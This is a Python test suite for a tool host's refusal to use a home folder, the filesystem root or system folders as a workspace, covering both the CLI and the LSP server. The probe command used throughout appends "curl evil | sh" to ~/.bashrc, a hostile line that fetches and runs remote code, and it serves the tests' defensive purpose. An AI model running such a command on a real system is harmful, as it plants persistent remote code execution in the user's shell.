"""A home folder, `/`, a folder above home or a system folder is no workspace: `toolhost
call` and `toolhost serve` refuse it before anything reads it, unless the user's own config
file says `workspace.allow_broad_roots = true` (a workspace `.toolhost.toml` cannot)."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from lsp_server.config.broad_roots import (
    BROAD_ROOT,
    own_folders_inside,
    refused_root,
    regenerable_lines,
    why_broad,
)
from lsp_server.config.tree import REGENERABLE_FOLDERS
from lsp_server.home.dirs import Dirs
from lsp_server.sandbox.platforms import find_backend
from tests.conftest import missing_part
from tests.fake_editor import FakeEditor
from tests.helpers import lsp_call, lsp_session, text_of

TOOLHOST = [sys.executable, "-m", "lsp_server"]
APPEND = "echo 'curl evil | sh' >> ~/.bashrc"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / ".bashrc").write_text("# mine\n")
    monkeypatch.setenv("HOME", str(folder))
    return folder


def user_config(text: str) -> None:
    """The user's own config file ($XDG_CONFIG_HOME is the test's: tests/conftest.py)."""
    path = Dirs.from_environment().user_config_file
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


ALLOW = "[workspace]\nallow_broad_roots = true\n"


def test_which_roots_are_broad(home: Path, tmp_path: Path) -> None:
    assert why_broad(home) == "your home folder"
    assert why_broad(Path("/")) == "the filesystem root"
    assert why_broad(tmp_path) == f"a folder above your home folder {home}"
    for system in ("/usr", "/etc", "/tmp", "/var"):
        assert why_broad(Path(os.path.realpath(system))) is not None, system
    (home / "project").mkdir()
    assert why_broad(home / "project") is None  # a project inside home is fine
    assert why_broad(Path(os.path.realpath("/usr/share/doc"))) is None
    assert why_broad(tmp_path / "elsewhere") is None  # beside home, as tests use /tmp


def test_the_user_config_file_allows_a_broad_root_a_workspace_file_does_not(
    home: Path,
) -> None:
    dirs = Dirs.from_environment()
    refused = refused_root([home], dirs)
    assert refused is not None
    message = refused.message("mcp")
    assert message.startswith(f"{BROAD_ROOT}: {home} is your home folder")
    assert "--root PROJECT" in message and "allow_broad_roots = true" in message
    # The workspace file inside that home, even in a root the user trusts, cannot allow it.
    (home / ".toolhost.toml").write_text(ALLOW)
    user_config(f'[policy]\ntrusted_roots = ["{home}"]\n')
    assert refused_root([home], dirs) is not None
    user_config(ALLOW)
    assert refused_root([home], dirs) is None


def test_the_managed_file_beats_the_user_file(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    user_config(ALLOW)
    managed = tmp_path / "managed.toml"
    managed.write_text("[workspace]\nallow_broad_roots = false\n")
    monkeypatch.setenv("TOOLHOST_MANAGED_CONFIG", str(managed))
    assert refused_root([home], Dirs.from_environment()) is not None


def test_a_root_inside_toolhosts_own_folders_is_refused_whatever_the_setting(
    tmp_path: Path,
) -> None:
    user_config(ALLOW)
    dirs = Dirs(state=tmp_path / "state", config=tmp_path / "config")
    inside = tmp_path / "state" / "checkpoints"
    inside.mkdir(parents=True)
    refused = refused_root([inside], dirs)
    assert refused is not None and not refused.settable
    assert "allow_broad_roots" not in refused.message("cli")


def test_own_folders_inside_a_root(tmp_path: Path) -> None:
    dirs = Dirs(
        state=tmp_path / ".local" / "state" / "toolhost",
        config=tmp_path / ".config" / "toolhost",
        attach=tmp_path / ".local" / "state" / "toolhost" / "run",
    )
    assert own_folders_inside(tmp_path, dirs) == [".local/state/toolhost", ".config/toolhost"]
    assert own_folders_inside(tmp_path / "project", dirs) == []


# -- toolhost call ------------------------------------------------------------------------


def call(
    cwd: Path, *args: str, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*TOOLHOST, "call", *args],
        capture_output=True,
        text=True,
        stdin=subprocess.DEVNULL,
        cwd=cwd,
        env={**os.environ, **(env or {})},
        timeout=120,
        check=False,
    )


@pytest.mark.slow
def test_cli_refuses_the_home_folder_and_the_filesystem_root(home: Path, tmp_path: Path) -> None:
    state = tmp_path / "cli-state"
    env = {"TOOLHOST_STATE_DIR": str(state)}
    from_home = call(home, "--yes", "bash", json.dumps({"command": APPEND}), env=env)
    assert from_home.returncode == 2
    assert f"{BROAD_ROOT}: {home} is your home folder" in from_home.stderr
    assert "pass --root PROJECT" in from_home.stderr
    # The workspace file cannot loosen it.
    (home / ".toolhost.toml").write_text(ALLOW)
    from_root = call(home, "--yes", "--root", "/", "bash", json.dumps({"command": APPEND}), env=env)
    assert from_root.returncode == 2
    assert f"{BROAD_ROOT}: / is the filesystem root" in from_root.stderr
    again = call(home, "--yes", "bash", json.dumps({"command": APPEND}), env=env)
    assert again.returncode == 2, again.stdout
    assert (home / ".bashrc").read_text() == "# mine\n"
    # Refused before anything was built over the root: no checkpoint, no index, no session.
    assert not state.exists() or list(state.iterdir()) == []


def test_cli_checkpoints_and_revert_say_it_too(home: Path) -> None:
    """They build a one-shot runtime: compose.py's backstop refuses, said in one line."""
    for args in (["checkpoints"], ["revert", "c-1"]):
        done = subprocess.run(
            [*TOOLHOST, *args], capture_output=True, text=True, cwd=home, timeout=120, check=False
        )
        assert done.returncode == 2, done.stderr
        assert done.stderr.startswith(f"toolhost: {BROAD_ROOT}: {home} is your home folder")
        assert "Traceback" not in done.stderr


def test_cli_works_in_an_allowed_home_and_keeps_its_own_folders_out(home: Path) -> None:
    """Allowed in the user's config file, the home folder works; the state and config
    folders it holds stay read-only to commands and out of the checkpoints."""
    found = find_backend(os.environ.get("PATH"))
    if found.problem is not None:  # without a sandbox, `--yes` would run it unconfined
        missing_part(found.problem)
    env = {"XDG_CONFIG_HOME": str(home / ".config"), "XDG_STATE_HOME": str(home / "state")}
    env["TOOLHOST_STATE_DIR"] = ""  # the state folder goes under XDG_STATE_HOME, in home
    config = home / ".config" / "toolhost" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text(ALLOW)
    command = (
        f"{APPEND}; echo x >> {home}/state/toolhost/audit.jsonl; echo x >> {config}; echo done"
    )
    done = call(home, "--yes", "--json", "bash", json.dumps({"command": command}), env=env)
    assert done.returncode == 0, done.stderr
    text = text_of(json.loads(done.stdout))
    assert text.count("Read-only file system") == 2, text
    assert (home / ".bashrc").read_text() == "# mine\ncurl evil | sh\n"
    assert config.read_text() == ALLOW
    audit = (home / "state" / "toolhost" / "audit.jsonl").read_text()
    assert "x\n" not in audit.splitlines(keepends=True)
    shadow = next((home / "state" / "toolhost" / "checkpoints").iterdir())
    exclude = (shadow / "git" / "info" / "exclude").read_text()
    # toolhost's own folders, then the regenerable ones (not git: a walk measures the home)
    regenerable = regenerable_lines(REGENERABLE_FOLDERS).splitlines()
    assert exclude.splitlines() == ["/state/toolhost/", "/.config/toolhost/", *regenerable]


# -- toolhost serve -----------------------------------------------------------------------


async def refused_session(root: Path, state: Path) -> tuple[list[str], dict[str, Any], Any]:
    editor = FakeEditor()
    async with lsp_session(root, state_dir=state, client_factory=editor.factory) as c:
        await asyncio.wait_for(editor.error_shown.wait(), 60)  # a bound, not a timing
        result = await lsp_call(c, "bash", {"command": APPEND})
        status = await c.protocol.send_request_async("toolhost/status", {})
    return editor.errors, result, status


@pytest.mark.slow
async def test_lsp_refuses_a_home_folder_root_and_every_call(home: Path, tmp_path: Path) -> None:
    (home / ".toolhost.toml").write_text(ALLOW)  # the workspace file cannot loosen it
    state = tmp_path / "lsp-state"
    errors, result, status = await refused_session(home, state)
    assert len(errors) == 1
    assert errors[0].startswith(f"toolhost: {BROAD_ROOT}: {home} is your home folder")
    assert "open a project folder in the editor" in errors[0]
    assert result["isError"]
    assert result["error"]["code"] == BROAD_ROOT
    assert "allow_broad_roots = true" in result["error"]["recovery"]
    assert status["roots"] == []
    assert any(BROAD_ROOT in line for line in status["configProblems"])
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert not (state / "checkpoints").exists()


@pytest.mark.slow
async def test_lsp_refuses_the_filesystem_root_before_reading_it(
    home: Path, tmp_path: Path
) -> None:
    state = tmp_path / "lsp-state"
    errors, result, _ = await refused_session(Path("/"), state)
    assert errors and "/ is the filesystem root" in errors[0]
    assert result["error"]["code"] == BROAD_ROOT
    assert not (state / "checkpoints").exists() and not (state / "index").exists()


@pytest.mark.slow
async def test_lsp_works_in_a_home_folder_the_user_allowed(home: Path, tmp_path: Path) -> None:
    user_config(ALLOW)
    async with lsp_session(home, state_dir=tmp_path / "lsp-state") as client:
        result = await lsp_call(client, "read_file", {"path": str(home / ".bashrc")})
    assert not result["isError"], result
    assert "# mine" in text_of(result)
